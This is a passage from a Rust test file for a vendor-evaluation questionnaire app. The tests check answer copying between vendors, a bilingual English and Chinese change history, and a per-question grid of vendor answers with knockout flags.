        &edit("DAT-09", EditValue::Number(30.0)),
    )
    .unwrap();
    let (_, vendor) = new_evaluation(&mut store);
    let plan = app::plan_copy_answers(&mut store, old_vendor, vendor).unwrap();
    assert_eq!(plan.copy, ["DAT-09"]);
    assert_eq!(plan.not_fitting.len(), 1);
    assert_eq!(plan.not_fitting[0].question, "E2E-08");
    let reason = &plan.not_fitting[0].reason;
    assert!(
        reason.en.starts_with("the answer does not fit version "),
        "{}",
        reason.en
    );
    assert!(reason.zh_cn.contains("版问卷的此问题"), "{}", reason.zh_cn);
    app::copy_answers(&mut store, old_vendor, vendor).unwrap();
    assert!(store.answer(vendor, "E2E-08").unwrap().is_none());
}

#[test]
fn the_history_says_answers_statuses_and_sources_by_their_names_in_both_languages() {
    use assay::app::evaluations::audit_lines;
    let mut store = Store::open_in_memory().unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    app::save_answer(&mut store, vendor, &edit("IRV-01", EditValue::Number(24.0))).unwrap();
    let asked = AnswerEdit {
        question: "TRN-01".into(),
        state: Some(assay::answers::AnswerState::AwaitingVendor),
        ..AnswerEdit::default()
    };
    app::save_answer(&mut store, vendor, &asked).unwrap();
    let sourced = AnswerEdit {
        source: Some(SourceKind::ContractClause),
        reference: Some("DPA §7.2".into()),
        ..edit("IRV-01", EditValue::Number(4.0))
    };
    app::save_answer(&mut store, vendor, &sourced).unwrap();
    let lines = audit_lines(&mut store, evaluation).unwrap();
    let change = |line: usize, field: &str| {
        lines[line]
            .changes
            .iter()
            .find(|c| c.field == field)
            .unwrap_or_else(|| panic!("{field} in {:?}", lines[line]))
            .clone()
    };
    // Newest first: IRV-01 24 → 4 hours with its source, TRN-01 asked, IRV-01 created.
    let value = change(0, "value");
    let (old, new) = (value.old.unwrap(), value.new.unwrap());
    assert!(old.en.contains("24") && old.en.contains("hour"), "{old:?}");
    assert!(
        new.zh_cn.contains('4') && new.zh_cn.contains("小时"),
        "{new:?}"
    );
    let source = change(0, "provenance").new.unwrap();
    assert_eq!(source.en, "contract clause, DPA §7.2");
    assert_eq!(source.zh_cn, "合同条款，DPA §7.2");
    let state = change(1, "state").new.unwrap();
    assert_eq!(
        (state.en.as_str(), state.zh_cn.as_str()),
        ("asked, awaiting the vendor", "已询问，等待供应商回复")
    );
    assert!(
        !format!("{lines:?}").contains("awaiting_vendor\""),
        "no ids shown: {lines:?}"
    );
}

/// The Questions tab's grid comes on its own (not inside every comparison):
/// every question of the snapshot in order, one column per vendor in the
/// comparison's rank order, the answers in words in both languages and the
/// active knockouts flagged.
#[test]
fn the_question_grid_comes_apart_with_every_question_and_vendor() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_example(&mut store).unwrap();
    let grid = assay::app::evaluation_grid(&mut store, id).unwrap();
    let view = comparison_view(&store.comparison(id).unwrap());
    let ranked: Vec<&str> = view.vendors.iter().map(|v| v.name.as_str()).collect();
    assert_eq!(grid.vendors, ranked);
    let q = store.questionnaire(id).unwrap();
    let ids: Vec<&str> = q
        .questions()
        .map(|(_, question)| question.id.as_str())
        .collect();
    let rows: Vec<&str> = grid.rows.iter().map(|r| r.question.as_str()).collect();
    assert_eq!(rows, ids);
    assert!(grid
        .rows
        .iter()
        .all(|r| r.cells.len() == grid.vendors.len()));
    assert!(grid.rows.iter().any(|r| r.knockout), "no knockout flagged");
    // The example's vendors answered: their answers are words, in both languages.
    let answered: Vec<&assay::Text> = grid
        .rows
        .iter()
        .flat_map(|r| r.cells.iter().filter_map(|c| c.answer.as_ref()))
        .collect();
    assert!(answered.len() > 100, "{} answered cells", answered.len());
    assert!(answered
        .iter()
        .all(|a| !a.en.is_empty() && !a.zh_cn.is_empty()));
    // The comparison itself no longer carries the grid: it is a third the size.
    let comparison = serde_json::to_string(&view).unwrap().len();
    let grid_json = serde_json::to_string(&grid).unwrap().len();
    assert!(
        grid_json > comparison,
        "grid {grid_json} B, comparison {comparison} B"
    );
    assert!(matches!(
        assay::app::evaluation_grid(&mut store, 999),
        Err(StoreError::NoEvaluation(999))
    ));
}
